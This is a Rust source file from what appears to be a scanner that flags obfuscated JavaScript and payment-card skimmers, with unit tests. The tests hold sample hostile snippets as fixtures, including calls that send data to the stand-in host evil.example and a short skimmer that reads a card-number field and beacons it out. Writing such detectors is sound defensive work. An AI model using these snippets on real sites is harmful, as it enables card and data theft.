//! What a script as a whole says: how it is written, and what it does all together.

use super::{Found, RiskKind};
use crate::script::token::{Kind, Token};

/// Escapes of characters that need none, in percent of all bytes of strings. Readable scripts have none.
const ESCAPED_PERCENT: usize = 10;
/// Names like `_0x3fa1`, which one widely used tool makes.
const MADE_NAMES: usize = 10;
/// Bits per byte of a long string. Base64 and random text have 5.5 to 6, sentences 4 to 4.5.
const ENTROPY: f64 = 5.2;
/// Bytes of a string whose entropy is looked at. A font in a `data:` address is left out by its beginning.
const DENSE_BYTES_MIN: usize = 400;

/// Looks at all of a script, when its words have been looked at.
pub(super) fn look(text: &str, tokens: &[Token<'_>], found: &mut Found) {
    if let Some((why, at)) = hidden(tokens) {
        found.add(RiskKind::Obfuscated, why, at);
    }
    let sends = [RiskKind::SendsTo, RiskKind::SendsSomewhere].iter().find_map(|kind| found.first(*kind));
    let hides = found.has(RiskKind::Decodes) || found.has(RiskKind::Obfuscated);
    let reads = found.first(RiskKind::CardField);
    let overlays = found.has(RiskKind::BuildsForm) && found.has(RiskKind::Listens);
    let at = match (reads, sends) {
        (Some(reads), Some(_)) => Some(reads),
        (Some(reads), None) if hides => Some(reads),
        (None, Some(sends)) if overlays && hides => Some(sends),
        _ => None,
    };
    if let Some(at) = at.filter(|at| *at < text.len()) {
        found.add(RiskKind::SkimmerShape, "reads and sends", at);
    }
}

/// How a script is made hard to read, and where that begins.
fn hidden(tokens: &[Token<'_>]) -> Option<(&'static str, usize)> {
    let texts = || tokens.iter().filter(|token| token.kind == Kind::Text);
    let written: usize = texts().map(|token| token.text.len()).sum();
    let escaped: usize = texts().map(|token| needless(token.text)).sum();
    if escaped >= 40 && escaped * 100 >= written * ESCAPED_PERCENT {
        return texts().find(|token| needless(token.text) > 0).map(|token| ("escapes", token.at));
    }
    let mut names = tokens.iter().filter(|token| token.kind == Kind::Word && token.text.starts_with("_0x"));
    if let Some(first) = names.next().filter(|_| names.count() >= MADE_NAMES) {
        return Some(("names", first.at));
    }
    let dense = |token: &&Token<'_>| {
        let inner = token.text.trim_matches(['"', '\'']);
        inner.len() >= DENSE_BYTES_MIN && !inner.starts_with("data:") && entropy(inner.as_bytes()) > ENTROPY
    };
    texts().find(dense).map(|token| ("dense text", token.at))
}

/// Bytes of escapes that stand for printable ASCII.
fn needless(raw: &str) -> usize {
    let bytes = raw.as_bytes();
    let printable = |at: usize, prefix: &[u8]| {
        let digits = bytes.get(at..at + prefix.len() + 2)?.strip_prefix(prefix)?;
        let code = u8::from_str_radix(std::str::from_utf8(digits).ok()?, 16).ok()?;
        (b' '..=b'~').contains(&code).then_some(prefix.len() + 2)
    };
    memchr::memchr_iter(b'\\', bytes)
        .filter_map(|at| printable(at, b"\\x").or_else(|| printable(at, b"\\u00")))
        .sum()
}

/// Shannon's entropy in bits per byte.
fn entropy(bytes: &[u8]) -> f64 {
    let mut counts = [0_u32; 256];
    bytes.iter().for_each(|byte| counts[usize::from(*byte)] += 1);
    let total = f64::from(u32::try_from(bytes.len()).unwrap_or(u32::MAX));
    let share = |count: &u32| f64::from(*count) / total;
    counts.iter().filter(|count| **count > 0).map(share).map(|p| -p * p.log2()).sum()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use gabion_core::Severity;

    use super::super::{RiskKind, new_risks, risks};

    fn kinds(script: &str) -> BTreeSet<&'static str> {
        risks(script).iter().map(|risk| risk.kind.code()).collect()
    }

    #[track_caller]
    fn check(script: &str, kind: &str, detail: &str) {
        let found = risks(script);
        assert!(
            found.iter().any(|risk| risk.kind.code() == kind && risk.detail == detail),
            "{script}: {found:#?}"
        );
    }

    #[test]
    fn words_that_matter_are_found() {
        for (script, kind, detail) in [
            ("fetch('https://evil.example/c',{method:'POST'})", "sends-to", "https://evil.example"),
            ("navigator.sendBeacon(`//evil.example/${x}`)", "sends-to", "https://evil.example"),
            ("x.open('POST','https://evil.example/c',true)", "sends-to", "https://evil.example"),
            ("new WebSocket('wss://evil.example')", "sends-to", "wss://evil.example"),
            ("import('https://evil.example/m.js')", "sends-to", "https://evil.example"),
            ("(new Image).src='https://evil.example/?'+b", "sends-to", "https://evil.example"),
            ("f.action=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==')", "sends-to", "https://evil.example"),
            ("String.fromCharCode(47,47,101,46,105,111)", "sends-to", "https://e.io"),
            ("a='\\x68ttps://evil.example/'", "names-origin", "https://evil.example"),
            ("fetch(u+p)", "sends-somewhere", "fetch"),
            (
                "document.querySelector('input[name=\"cc_number\"]')",
                "card-field",
                "input[name=\"cc_number\"]",
            ),
            ("form.cardNumber.value", "card-field", "cardNumber"),
            ("f.addEventListener('submit',g)", "listens", "submit"),
            ("i.oninput=g", "listens", "input"),
            ("document.createElement('iframe')", "builds-form", "iframe"),
            ("eval(x)", "makes-code", "eval"),
            ("new Function('a')", "makes-code", "Function"),
            ("setTimeout('go()',1)", "makes-code", "setTimeout"),
            ("document.write(x)", "writes-document", "write"),
            ("new MutationObserver(f)", "watches-page", "MutationObserver"),
            ("localStorage.setItem('cardnumber',x)", "keeps-card", "cardnumber"),
            ("document.cookie", "reads-cookies", "cookie"),
        ] {
            check(script, kind, detail);
        }
    }

    #[test]
    fn ordinary_scripts_are_left_alone() {
        for script in [
            "fetch('/cart/add',{method:'POST'})",
            "window.open('/help')",
            "img.src='/a.png';a.src==b",
            "setTimeout(function(){go()},10)",
            "// fetch('https://evil.example')",
            "var s='the card number is not here: eval(x)'.length",
        ] {
            let found = kinds(script);
            assert!(found.is_empty(), "{script}: {found:?}");
        }
    }

    #[test]
    fn skimmers_are_told_from_shops() {
        let skimmer = "document.addEventListener('submit',function(){var n=document.querySelector('[name=cardnumber]');\
                       new Image().src='https://evil.example/p.gif?d='+btoa(n.value)})";
        assert!(kinds(skimmer).contains("skimmer-shape"));
        let shop = "document.addEventListener('submit',function(){track('/order')});fetch('https://api.shop.example/x')";
        assert!(!kinds(shop).contains("skimmer-shape"));
        let first =
            risks(skimmer).into_iter().find(|risk| risk.kind == RiskKind::SkimmerShape).expect("found");
        assert_eq!((first.severity, first.place.line), (Severity::Critical, 2));
    }

    #[test]
    fn what_is_made_hard_to_read_is_told() {
        let escapes = format!("a='{}'", "\\x61".repeat(20));
        let names: String = (0..12).map(|n| format!("var _0x{n:04x}=1;")).collect();
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let dense: String = (0..600_usize).map(|n| char::from(alphabet[n * 37 % 64])).collect();
        for script in [escapes, names, format!("a='{dense}'")] {
            assert!(kinds(&script).contains("obfuscated"), "{script}");
        }
        assert!(!kinds(&format!("a='data:font/woff2;base64,{dense}'")).contains("obfuscated"));
    }

    #[test]
    fn only_what_is_new_is_told_of_a_change() {
        let old = "fetch('https://api.example/x');eval(a)";
        let new = format!("{old};fetch('https://evil.example/y')");
        let found: Vec<_> =
            new_risks(old, &new).into_iter().map(|risk| (risk.kind.code(), risk.detail)).collect();
        let evil = || "https://evil.example".to_owned();
        assert_eq!(found, [("sends-to", evil()), ("names-origin", evil())]);
    }
}
